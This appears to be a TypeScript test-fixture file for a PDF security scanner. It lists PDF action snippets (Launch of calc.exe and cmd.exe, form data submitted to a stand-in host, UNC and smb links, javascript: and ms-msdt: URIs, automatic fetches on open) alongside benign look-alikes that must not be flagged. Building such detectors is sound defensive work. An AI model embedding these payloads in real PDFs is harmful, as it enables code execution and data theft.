import { attachments } from './attachments.ts';
import { elsewhere } from './elsewhere.ts';
import { attack, type Notated } from './notated.ts';
import { FETCH, link, object, onPage, opened } from './placed.ts';
import { scripts } from './scripts.ts';

/** Actions that reach out or change what is shown. */
const actions: Notated[] = [
  attack('a program', link('/S/Launch/F(calc.exe)'), 'launch'),
  attack('a program with parameters', link('/S/Launch/Win<</F(cmd.exe)/P(/c calc)/O(print)>>'), 'launch'),
  attack(
    'form data sent',
    link('/S/SubmitForm/F<</FS/URL/F(https://collect.example/)>>/Flags 256'),
    'submit_form',
  ),
  attack('form data fetched', link('/S/ImportData/F(\\\\\\\\host.example\\\\x.fdf)'), 'import_data'),
  attack('fields emptied', link('/S/ResetForm'), 'reset_form'),
  attack('another file', link('/S/GoToR/F(\\\\\\\\host.example\\\\x.pdf)/D[0/Fit]'), 'remote_goto'),
  attack(
    'a thread of another file',
    link('/S/Thread/F<</F(https://host.example/x.pdf)/FS/URL>>/D 0'),
    'remote_goto',
  ),
  attack('an attachment', link('/S/GoToE/T<</R/C/N(a)>>'), 'embedded_goto'),
  attack(
    'an attachment by a script',
    link('/S/GoToE/F(javascript:alert\\(1\\))'),
    'embedded_goto',
    'uri_script',
  ),
  ...[
    'javascript:alert\\(1\\)',
    ' JaVa\\012script:alert\\(1\\)',
    'vbscript:x',
    'data:text/html,x',
    'ms-msdt:/id x',
  ].map((uri) => attack(`a link to ${uri}`, link(`/S/URI/URI(${uri})`), 'uri_script')),
  ...[
    'file:///etc/passwd',
    '\\\\\\\\host.example\\\\x',
    '//host.example/x',
    'smb://host.example/x',
    'C:\\\\x.exe',
  ].map((uri) => attack(`a link to ${uri}`, link(`/S/URI/URI(${uri})`), 'uri_file')),
  attack('a base of all links', { catalog: '/URI<</Base(javascript:)>>' }, 'uri_script'),
  attack('an address on opening', opened(FETCH), 'automatic_link', 'web_link'),
  attack('an address on closing', { catalog: `/AA<</WC<<${FETCH}>>>>` }, 'automatic_link'),
  attack('an address of a page', onPage(`/AA<</O<<${FETCH}>>>>`), 'automatic_link'),
  attack(
    'an address on pointing',
    onPage(`/Annots[<</Subtype/Link/Rect[0 0 9 9]/AA<</E 100 0 R>>>>]`, {
      number: 100,
      body: `<<${FETCH}>>`,
    }),
    'automatic_link',
  ),
  attack('an address in a chain', opened(`/S/GoTo/D[4 0 R/Fit]/Next<<${FETCH}>>`), 'automatic_link'),
  attack('layers switched', link('/S/SetOCGState/State[/OFF 3 0 R]'), 'layer_action'),
  attack('fields hidden', link('/S/Hide/T(f)'), 'hide_action'),
  attack('printing', opened('/S/Named/N/Print'), 'named_action'),
  attack('an action of no standard', link('/Type/Action/S/Vendor'), 'named_action'),
  attack('an obsolete action', object('<</S/NOP>>'), 'named_action'),
  attack('a film', link('/S/Rendition/OP 0/R<</S/MR>>'), 'media'),
  attack('media that run commands', link('/S/RichMediaExecute/CMD<</C(play)>>'), 'rich_media'),
  attack(
    'media that are a program',
    onPage('/Annots[100 0 R]', {
      number: 100,
      body: '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Configurations[<</Type/RichMediaConfiguration/Subtype/Flash/Instances[]>>]>>>>',
    }),
    'rich_media',
    'media',
  ),
];

/** Everything that runs, reaches out or travels along (ISO 32000-2 §12.6, §7.11, §12.7.8, §13). */
export const actionAttacks: readonly Notated[] = [...scripts, ...actions, ...attachments, ...elsewhere];

/** What looks like one of them and is none: it must give no finding but what it lists. */
export const actionInnocents: readonly Notated[] = [
  attack('roles that are named like actions', {
    objects: ['JavaScript', 'Hide', 'Launch', 'Sound', 'Named'].map((role, at) => ({
      number: 100 + at,
      body: `<</Type/StructElem/S/${role}/P 1 0 R/K 0/T(a)>>`,
    })),
  }),
  attack('a font that is named JS', {
    objects: [
      { number: 100, body: '<</Font<</JS 3 0 R>>/XObject<</JS 101 0 R>>>>' },
      { number: 101, body: '/Type/XObject/Subtype/Form/BBox[0 0 1 1]', data: '' },
    ],
  }),
  attack('private data of a program', {
    pages: [{ entries: '/PieceInfo<</Tool<</Private<</JS(note)>>>>>>' }],
  }),
  attack('a link inside the document', link('/S/GoTo/D[4 0 R/Fit]')),
  attack('a filter by a short name', {
    objects: [{ number: 100, body: '/Subtype/Image/F/AHx', data: '00>' }],
  }),
  attack('the next page', link('/S/Named/N/NextPage')),
  attack('a thread of the document', link('/S/Thread/D 0')),
  attack('a function', {
    objects: [
      {
        number: 100,
        body: '/FunctionType 4/Domain[0 1]/Range[0 1]',
        data: '{ % half\n 2 div dup 0 lt { pop 0 } if }',
      },
    ],
  }),
  attack('metadata that show a declaration', {
    objects: [
      {
        number: 100,
        body: '/Type/Metadata/Subtype/XML',
        data: '<!-- <!DOCTYPE a [ --><x:xmpmeta><![CDATA[<!ENTITY b "c">]]></x:xmpmeta>',
      },
    ],
  }),
  attack('a font matrix', object('<</Type/Font/Subtype/Type3/FontMatrix[.001 0 0 .001 0 0]>>')),
];
